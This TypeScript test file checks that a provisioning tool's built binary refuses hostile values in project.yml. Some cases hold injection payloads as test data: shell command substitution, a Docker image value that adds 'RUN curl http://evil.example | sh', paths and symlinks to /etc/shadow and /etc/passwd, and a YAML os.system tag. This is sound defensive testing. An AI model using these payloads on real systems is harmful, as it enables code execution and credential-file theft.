import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { smallProjectYaml } from '../../helpers/projects.js'
import { describeRefusals, type RefusalCase } from './refusals.js'

/**
 * Issue 14, defects 2, 7, 8 (HE part), 9, 13, 15 and 16 through the built bin: each hostile value is refused
 * with exit 2, a problem line naming the key path and line:col, no stack trace, and nothing written.
 */

// Lines: 1 api_version, 2 name, 3 participants, 4-6 server, 7-9 site-1, 10-13 admin, builders from 14.
const BASE = smallProjectYaml('demo')
const replace = (from: string, to: string) => BASE.replace(from, to)
const serverWith = (props: string) =>
  BASE.replace('    org: nvidia\n  - name: site-1', `    org: nvidia\n${props}\n  - name: site-1`)
const clientWith = (props: string) => BASE.replace('    org: org_a\n', `    org: org_a\n${props}\n`)
/** BASE with builders: workspace (15), static (16), the one under test (17, args on 18), cert, signature. */
const withBuilder = (path: string, args: string) =>
  `${BASE}builders:\n  - path: workspace\n  - path: static\n  - path: ${path}\n    args: ${args}\n  - path: cert\n  - path: signature\n`
const heArgs = (args: string) => withBuilder('he', args)
const dockerArgs = (args: string) => withBuilder('docker', args)
const staticArgs = (args: string) =>
  `${BASE}builders:\n  - path: workspace\n  - path: nvflare.lighter.impl.static_file.StaticFileBuilder\n    args: ${args}\n  - path: cert\n  - path: signature\n`

const CASES: RefusalCase[] = [
  // 2: values that reach a script or a Dockerfile
  {
    name: 'a config_folder that runs commands in sub_start.sh',
    file: staticArgs(`{config_folder: 'x$(touch /tmp/p) ;touch /tmp/q #'}`),
    at: 'builders[1].args.config_folder (project.yml:17:12)',
    says: 'folder name',
  },
  {
    name: 'a config_folder that leaves the app folder',
    file: staticArgs('{config_folder: ../../etc}'),
    at: 'builders[1].args.config_folder (project.yml:17:12)',
    says: 'folder name',
  },
  {
    name: 'a static scheme with a quote',
    file: staticArgs(`{scheme: 'grpc"; x'}`),
    at: 'builders[1].args.scheme (project.yml:17:12)',
    says: 'scheme',
  },
  {
    name: 'a download_job_url that is not http',
    file: staticArgs('{download_job_url: "javascript:alert(1)"}'),
    at: 'builders[1].args.download_job_url (project.yml:17:12)',
    says: 'http:// or https:// URL',
  },
  {
    name: 'a base_image with a newline that adds a RUN line',
    file: dockerArgs('{base_image: "python:3.10\\nRUN curl http://evil.example | sh"}'),
    at: 'builders[2].args.base_image (project.yml:18:12)',
    says: 'Docker image reference',
  },
  {
    name: 'a base_image with a build flag',
    file: dockerArgs('{base_image: "--platform=linux/amd64 python"}'),
    at: 'builders[2].args.base_image (project.yml:18:12)',
    says: 'Docker image reference',
  },
  {
    name: 'a requirements_file outside the project folder (/etc/shadow)',
    file: dockerArgs('{requirements_file: /etc/shadow}'),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'inside the project folder',
  },
  {
    name: 'a requirements_file that is a link out of the project folder',
    file: dockerArgs('{requirements_file: reqs.txt}'),
    setup: (dir) => symlinkSync('/etc/passwd', join(dir, 'reqs.txt')),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'it leads to "/etc/passwd"',
  },
  {
    name: 'a default requirements.txt that is a link out of the project folder',
    file: dockerArgs('{}'),
    setup: (dir) => symlinkSync('/etc/passwd', join(dir, 'requirements.txt')),
    at: 'builders[2] (project.yml:17:5)',
    says: 'inside the project folder',
  },
  {
    name: 'a requirements_file that is a FIFO (it must not hang)',
    file: dockerArgs('{requirements_file: pipe}'),
    setup: (dir) => execFileSync('mkfifo', [join(dir, 'pipe')]),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'not a regular file',
  },
  {
    name: 'a requirements_file that is a folder',
    file: dockerArgs('{requirements_file: reqs}'),
    setup: (dir) => mkdirSync(join(dir, 'reqs')),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'not a regular file',
  },
  {
    name: 'a requirements_file of 2 MiB',
    file: dockerArgs('{requirements_file: big.txt}'),
    setup: (dir) => writeFileSync(join(dir, 'big.txt'), Buffer.alloc(2 * 1024 * 1024, 0x61)),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'at most 1048576',
  },
  {
    name: 'a requirements_file that does not exist',
    file: dockerArgs('{requirements_file: nothing.txt}'),
    at: 'builders[2].args.requirements_file (project.yml:18:12)',
    says: 'does not exist',
  },
  // 7: names of files we write in prod_NN
  {
    name: 'a client named nvflare_compose',
    file: dockerArgs('{}').replace('name: site-1', 'name: nvflare_compose'),
    at: 'participants[1].name (project.yml:7:5)',
    says: 'reserved',
  },
  {
    name: 'a client named NVFLARE_COMPOSE (case-insensitive file systems)',
    file: replace('name: site-1', 'name: NVFLARE_COMPOSE'),
    at: 'participants[1].name (project.yml:7:5)',
    says: 'reserved',
  },
  {
    name: 'a server named compose.yaml',
    file: replace('name: server.example.com', 'name: compose.yaml'),
    at: 'participants[0].name (project.yml:4:5)',
    says: 'reserved',
  },
  {
    name: 'a server named site-1.zip beside the client site-1',
    file: replace('name: server.example.com', 'name: site-1.zip'),
    at: 'participants[0].name (project.yml:4:5)',
    says: 'with --zip the kit of "site-1" is written as site-1.zip',
  },
  {
    name: 'a client name Docker refuses as a container name, with the docker builder',
    file: dockerArgs('{}').replace('name: site-1', 'name: _site'),
    at: 'participants[1].name (project.yml:7:5)',
    says: 'the name of a Docker container',
  },
  // 9: host names and IP addresses
  {
    name: "':::' in host_names",
    file: serverWith('    host_names: [fl.example.com, ":::"]'),
    at: 'participants[0].host_names[1] (project.yml:7:34)',
    says: 'host name or IP',
  },
  {
    name: "'1.2.3.4:80' as default_host",
    file: serverWith('    default_host: "1.2.3.4:80"'),
    at: 'participants[0].default_host (project.yml:7:5)',
    says: 'a port goes in its own key',
  },
  {
    name: 'a dotted number that is no IPv4 address',
    file: serverWith('    host_names: 1.2.3.256'),
    at: 'participants[0].host_names (project.yml:7:5)',
    says: 'host name or IP',
  },
  {
    name: 'an IPv6 address with a zone',
    file: serverWith('    host_names: ["fe80::1%eth0"]'),
    at: 'participants[0].host_names[0] (project.yml:7:18)',
    says: 'host name or IP',
  },
  {
    name: 'a connect_to host with a port',
    file: clientWith('    connect_to:\n      host: "fl.example.com:8002"'),
    at: 'participants[1].connect_to.host (project.yml:11:7)',
    says: 'a port goes in its own key',
  },
  {
    name: 'a connect_to string that is no host',
    file: clientWith('    connect_to: "fl example com"'),
    at: 'participants[1].connect_to (project.yml:10:5)',
    says: 'host name or IP',
  },
  {
    name: 'a bad listening_host host_names entry',
    file: clientWith(
      '    listening_host:\n      default_host: site-1.example.com\n      host_names: ["::g"]',
    ),
    at: 'participants[1].listening_host.host_names[0] (project.yml:12:20)',
    says: 'host name or IP',
  },
  {
    name: 'a listening_host scheme with a space',
    file: clientWith('    listening_host:\n      default_host: site-1.example.com\n      scheme: "grpc x"'),
    at: 'participants[1].listening_host.scheme (project.yml:12:7)',
    says: 'scheme',
  },
  // 8 and 13: HE parameters SEAL cannot make, or more primes than NVFlare can use
  {
    name: 'HE N=1024 [10, 8, 8] scale 8 (N=1024 has no room for 3 primes)',
    file: heArgs('{poly_modulus_degree: 1024, coeff_mod_bit_sizes: [10, 8, 8], scale_bits: 8}'),
    at: 'builders[2].args.poly_modulus_degree (project.yml:18:12)',
    says: 'cannot hold 3 primes at 128-bit security',
  },
  {
    name: 'HE N=8192 [20, 16, 16] scale 16 (no 16-bit primes at N=8192)',
    file: heArgs('{poly_modulus_degree: 8192, coeff_mod_bit_sizes: [20, 16, 16], scale_bits: 16}'),
    at: 'builders[2].args.coeff_mod_bit_sizes (project.yml:18:39)',
    says: '2 primes of 16 bits, but at poly_modulus_degree 8192 there is none',
  },
  {
    name: 'HE N=4096 [2, 1, 1] (1-bit primes)',
    file: heArgs('{poly_modulus_degree: 4096, coeff_mod_bit_sizes: [2, 1, 1], scale_bits: 1}'),
    at: 'builders[2].args.coeff_mod_bit_sizes (project.yml:18:39)',
    says: '2..60 bits',
  },
  {
    name: 'HE N=32768 with 32 primes',
    file: heArgs(
      `{poly_modulus_degree: 32768, coeff_mod_bit_sizes: [60, ${Array(30).fill(40).join(', ')}, 60]}`,
    ),
    at: 'builders[2].args.coeff_mod_bit_sizes (project.yml:18:40)',
    says: 'at most 4 (first, 2 middle, special)',
  },
  {
    name: 'HE with an unknown argument',
    file: heArgs('{poly_modulus: 8192}'),
    at: 'builders[2].args.poly_modulus (project.yml:18:12)',
    says: 'unknown argument',
  },
  // 15 and 16: YAML tags and merge keys
  {
    name: 'a python tag in host_names',
    file: serverWith("    host_names: !!python/object/apply:os.system ['id']"),
    at: 'participants[0].host_names (project.yml:7:17)',
    says: 'the YAML tag !!python/object/apply:os.system is not allowed',
  },
  {
    name: 'a local tag on an org',
    file: replace('org: org_a', 'org: !env ORG'),
    at: 'participants[1].org (project.yml:9:10)',
    says: 'the YAML tag !env is not allowed',
  },
  {
    name: 'a merge key whose value is a single value',
    file: clientWith('    <<: 5'),
    at: 'participants[1]["<<"] (project.yml:10:9)',
    says: 'a merge key (<<) takes a mapping',
  },
]

describeRefusals('hostile values in project.yml, through the built bin', CASES, {
  args: ['-p', 'project.yml', '-w', 'ws', '--zip'],
  concurrency: 3,
})
